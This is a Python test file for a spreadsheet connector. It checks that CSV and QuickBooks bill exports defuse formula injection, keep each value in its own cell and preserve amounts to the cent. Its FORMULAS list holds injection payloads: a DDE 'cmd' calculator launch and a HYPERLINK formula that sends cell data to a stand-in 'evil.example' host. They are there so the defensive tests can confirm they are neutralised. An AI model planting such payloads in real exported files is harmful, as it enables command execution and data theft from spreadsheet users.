"""No cell can act, and a bookkeeper's file holds what was decided to the cent."""

from __future__ import annotations

import csv
import io
from dataclasses import replace
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from makegood.connectors.spreadsheet import Bill, Cell, csv_bytes, defused, money, quickbooks_bills


def read(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


FORMULAS = [
    "=1+1", "+1", "-1+cmd|' /C calc'!A0", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "\u00a0=1", "\u200b=1", "\ufeff=1",
    '=HYPERLINK("https://evil.example?"&A1,"x")', "＝1+1", "＠SUM(1)", "\x00=1", "\x1b=1", "|calc", "%0A=1",
]  # fmt: skip


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_is_text(text: str) -> None:
    ((cell,),) = read(csv_bytes(["a"], [[text]]))[1:]
    assert cell.startswith("'")


@given(st.text(max_size=40))
def test_no_text_begins_so_that_it_acts(text: str) -> None:
    cell = defused(text)
    assert not cell.lstrip(" \u00a0\u200b\ufeff").startswith(("=", "+", "-", "@", "\t", "\r", "\n", "＝"))


@given(st.lists(st.text(max_size=20), min_size=3, max_size=3))
def test_no_text_breaks_out_of_its_cell(texts: list[str]) -> None:
    rows = read(csv_bytes(["a", "b", "c"], [texts]))
    assert rows[1] == [defused(text) for text in texts]
    assert len(rows) == 2


def test_numbers_dates_and_nothing_are_themselves() -> None:
    row: list[Cell] = [-5, Decimal("-1.50"), date(2026, 3, 12), datetime(2026, 3, 12, 9, 30, tzinfo=UTC), None, "Ä"]
    assert read(csv_bytes("abcdef", [row]))[1] == ["-5", "-1.50", "2026-03-12", "2026-03-12 09:30:00+00:00", "", "Ä"]


def test_a_head_is_defused_too_and_a_short_row_is_refused() -> None:
    assert read(csv_bytes(["=x"], []))[0] == ["'=x"]
    with pytest.raises(ValueError, match="another length"):
        csv_bytes(["a", "b"], [["1"]])


BILL = Bill(
    number="ACME-2026-003", vendor="=Partner, Inc.", billed=date(2026, 3, 2), due=date(2026, 3, 12),
    account="Software development", cents=1_234_567, description='Milestone "Orders"\naccepted', memo="@held back 5 %",
)  # fmt: skip


def test_a_bookkeeper_gets_the_amount_to_the_cent_and_american_dates() -> None:
    head, row = read(quickbooks_bills([BILL]))
    assert dict(zip(head, row, strict=True)) == {
        "Bill No": "ACME-2026-003", "Vendor": "'=Partner, Inc.", "Bill Date": "03/02/2026", "Due Date": "03/12/2026",
        "Account": "Software development", "Line Amount": "12345.67",
        "Line Description": 'Milestone "Orders"\naccepted',
        "Memo": "'@held back 5 %",
    }  # fmt: skip


@pytest.mark.parametrize("change", [{"cents": 0}, {"cents": -1}, {"number": ""}, {"number": "x" * 22}])
def test_a_bill_that_would_be_cut_or_is_about_nothing_is_refused(change: dict[str, object]) -> None:
    with pytest.raises(ValueError, match="a bill"):
        quickbooks_bills([replace(BILL, **change)])  # type: ignore[arg-type]


@given(st.integers(-(10**15), 10**15))
def test_money_keeps_every_cent(cents: int) -> None:
    assert money(cents) * 100 == cents
    assert f"{money(cents)}"[-3] == "."
